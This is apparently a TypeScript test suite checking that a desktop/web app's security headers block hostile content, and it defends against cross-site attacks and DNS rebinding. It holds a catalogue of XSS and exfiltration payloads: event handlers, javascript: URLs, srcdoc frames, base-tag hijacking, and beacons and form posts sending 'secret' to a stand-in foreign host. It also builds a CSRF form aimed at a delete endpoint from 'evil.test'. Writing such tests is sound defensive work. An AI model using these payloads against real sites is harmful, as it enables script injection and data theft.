import { writeFile } from 'node:fs/promises'
import { createServer, type RequestListener } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { expect, onTestFinished, test } from 'vitest'
import { createAppProtocol } from '../../src-main/hosts/electron/app-protocol.ts'
import { secureHeaders } from '../../src-main/hosts/node/http-reply.ts'
import { protocol, serveProtocols, toHttpUrl } from '../support/electron-double/protocol.ts'
import { launchChromium } from '../support/launch-chromium.ts'
import { startHttpHost } from '../support/start-http-host.ts'
import { tempFolder } from './loom.ts'
import { openInElectron } from './open-app.ts'

/** Each line is one way in which text that became markup would run or call home. */
const hostilePage = (foreign: string) => `<!doctype html><meta charset="utf-8"><title>hostile</title>
<base href="${foreign}/base/">
<link rel="stylesheet" href="${foreign}/style.css">
<link rel="prefetch" href="${foreign}/prefetch">
<link rel="modulepreload" href="${foreign}/module.js">
<link rel="manifest" href="${foreign}/manifest.json">
<style>@import "${foreign}/import.css"; @font-face { font-family: f; src: url(${foreign}/font.woff2) } p { font-family: f }</style>
<p style="background: url(${foreign}/background.png)">text</p>
<script>ran('inline script')</script>
<script src="data:text/javascript,ran('data script')"></script>
<script src="${foreign}/script.js"></script>
<script type="module">ran('inline module')</script>
<img src="data:," onerror="ran('error handler')">
<svg onload="ran('svg handler')"></svg>
<details open ontoggle="ran('toggle handler')"></details>
<a id="link" href="javascript:ran('javascript link')">link</a>
<iframe srcdoc="<script>parent.ran('srcdoc')</script>"></iframe>
<iframe src="javascript:parent.ran('javascript frame')"></iframe>
<iframe name="frame" src="${foreign}/frame"></iframe>
<img src="${foreign}/image.png"><img src="relative.png">
<video src="${foreign}/video.mp4" preload="auto"></video><object data="${foreign}/object"></object><embed src="${foreign}/embed">
<form id="form" action="${foreign}/form" method="post" target="frame"><input name="q" value="secret"></form>
`

/** Our own script, as if turned against us. */
const ownScript = (foreign: string) => `
window.attempts = []
const attempt = (work) => { try { const r = work(); if (r && r.catch) window.attempts.push(r.catch(() => 0)) } catch {} }
attempt(() => eval("ran('eval')"))
attempt(() => new Function("ran('function')")())
attempt(() => setTimeout("ran('timer text')", 0))
attempt(() => fetch('${foreign}/fetch', { mode: 'no-cors' }))
attempt(() => import('${foreign}/dynamic.js'))
attempt(() => navigator.sendBeacon('${foreign}/beacon', 'secret'))
attempt(() => new EventSource('${foreign}/source'))
attempt(() => new WebSocket('${foreign.replace('http', 'ws')}/socket'))
attempt(() => { const call = new XMLHttpRequest(); call.open('GET', '${foreign}/xhr'); call.send() })
attempt(() => { new Image().src = '${foreign}/pixel.png' })
attempt(() => new Worker(URL.createObjectURL(new Blob(["fetch('${foreign}/worker', { mode: 'no-cors' })"]))))
attempt(() => new Worker('${foreign}/worker.js'))
attempt(() => { const s = document.createElement('script'); s.textContent = "ran('made script')"; document.body.append(s) })
attempt(() => new URL(document.baseURI).origin === location.origin || ran('moved base'))
attempt(() => document.getElementById('link').click())
attempt(() => document.getElementById('form').submit())
`

async function listen(listener: RequestListener) {
  const server = createServer(listener).listen(0, '127.0.0.1')
  await new Promise((resolve) => server.once('listening', resolve))
  onTestFinished(() => {
    server.closeAllConnections()
    server.close()
  })
  return { server, base: `http://127.0.0.1:${(server.address() as AddressInfo).port}` }
}

/** Opens the page with our script after it; gives what ran. */
async function visit(address: string, prepare = async (_page: Page) => {}): Promise<string[]> {
  const browser = await launchChromium()
  const page = await browser.newPage()
  await prepare(page)
  const ran: string[] = []
  await page.exposeFunction('ran', (what: string) => void ran.push(what))
  await page.goto(address, { waitUntil: 'commit' })
  await page.waitForFunction(() => 'attempts' in window)
  await page.waitForTimeout(1500)
  return ran.sort()
}

async function prepare() {
  const host = await startHttpHost()
  const seen: string[] = []
  const foreign = await listen((request, response) => {
    seen.push(request.url ?? '')
    response.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' })
    response.end("self.ran?.('foreign script')")
  })
  foreign.server.on('upgrade', (request, socket) => {
    seen.push(request.url ?? '')
    socket.destroy()
  })
  const own = ownScript(foreign.base)
  // The script's address is spelt out, because the page itself tries to move every relative one elsewhere.
  const html = (base: string) => `${hostilePage(foreign.base)}<script src="${base}/own.js"></script>`
  await writeFile(join(host.staticFolder, 'own.js'), own)
  await writeFile(join(host.staticFolder, 'hostile.html'), html(host.base))
  return { host, seen, own, html }
}

test('of a page full of foreign code, only our own script runs and no request leaves', async () => {
  const { host, seen } = await prepare()
  expect(await visit(`${host.base}/hostile.html`)).toEqual([])
  expect(seen).toEqual([])
})

test('as a page of the desktop app, it runs and calls as little', async () => {
  const { host, seen, html } = await prepare()
  protocol.handle('app', createAppProtocol(host.staticFolder))
  const address = toHttpUrl('app://loom/')
  await writeFile(join(host.staticFolder, 'hostile.html'), html(new URL(address).origin))
  const left: string[] = []
  const serveApp = (page: Page) => serveProtocols(page, (url) => left.push(url) > 0)
  expect(await visit(`${address}hostile.html`, serveApp)).toEqual([])
  expect({ seen, left }).toEqual({ seen: [], left: [] })
})

test('the window of the desktop app gets its pages with those headers', async () => {
  const { page } = await openInElectron(join(tempFolder(), 'library'))
  const headers = await page.evaluate(async () => Object.fromEntries((await fetch('/index.html')).headers))
  expect(headers).toMatchObject(secureHeaders)
})

test('the same page without our headers runs and calls home, so that the test above can fail', async () => {
  const { seen, own, html } = await prepare()
  const bare = await listen((request, response) => {
    const isScript = request.url === '/own.js'
    response.writeHead(200, { 'content-type': isScript ? 'text/javascript' : 'text/html; charset=utf-8' })
    response.end(isScript ? own : html(`http://${request.headers.host}`))
  })
  const ran = await visit(bare.base)
  for (const kind of [
    'inline script',
    'data script',
    'error handler',
    'eval',
    'javascript link',
    'moved base',
    'srcdoc',
  ]) {
    expect(ran).toContain(kind)
  }
  for (const path of ['/image.png', '/style.css', '/font.woff2', '/fetch', '/form', '/base/relative.png', '/socket']) {
    expect(seen).toContain(path)
  }
})

test('another site in the same browser learns nothing and changes nothing', async () => {
  const host = await startHttpHost()
  const attack = `<!doctype html><script src="${host.base}/assets/index-BxYz1234.js" onload="load('script')"></script>
    <img src="${host.base}/" onload="load('image')"><iframe name="frame" src="${host.base}/"></iframe>
    <form id="form" action="${host.base}/api/model.remove" method="post" enctype="text/plain" target="frame">
    <input name='{"sha256":"' value='x"}'></form><script>form.submit()</script>`
  const foreign = await listen((_request, response) => {
    response.writeHead(200, { 'content-type': 'text/html' }).end(attack)
  })
  const browser = await launchChromium([`--host-resolver-rules=MAP evil.test 127.0.0.1`])
  const page = await browser.newPage()
  const loaded: string[] = []
  await page.exposeFunction('load', (what: string) => void loaded.push(what))
  for (const origin of [foreign.base, foreign.base.replace('127.0.0.1', 'evil.test')]) {
    await page.goto(origin)
    await page.waitForTimeout(500)
    const answers = await page.evaluate(async (base) => {
      const tries: RequestInit[] = [
        { method: 'POST', body: '{}' },
        { method: 'POST', body: '{}', mode: 'no-cors' },
        { method: 'POST', body: '{}', headers: { 'content-type': 'application/json' } },
        { method: 'GET' },
      ]
      const read = async (init: RequestInit) => {
        try {
          return await (await fetch(`${base}/api/persona.count`, init)).text()
        } catch {
          return ''
        }
      }
      return Promise.all(tries.map(read))
    }, host.base)
    expect(answers).toEqual(['', '', '', ''])
    expect(page.frame('frame')?.url()).not.toContain(host.base)
  }
  expect(loaded).toEqual([])
  expect(host.asked).toEqual([])
})

test('a rebound name in a real browser gets a refusal and no page', async () => {
  const host = await startHttpHost()
  const browser = await launchChromium([`--host-resolver-rules=MAP evil.test 127.0.0.1`])
  const page = await browser.newPage()
  const response = await page.goto(`http://evil.test:${host.port}/`)
  expect(response?.status()).toBe(403)
  expect(await page.textContent('body')).toContain('Open the app from its own address.')
})
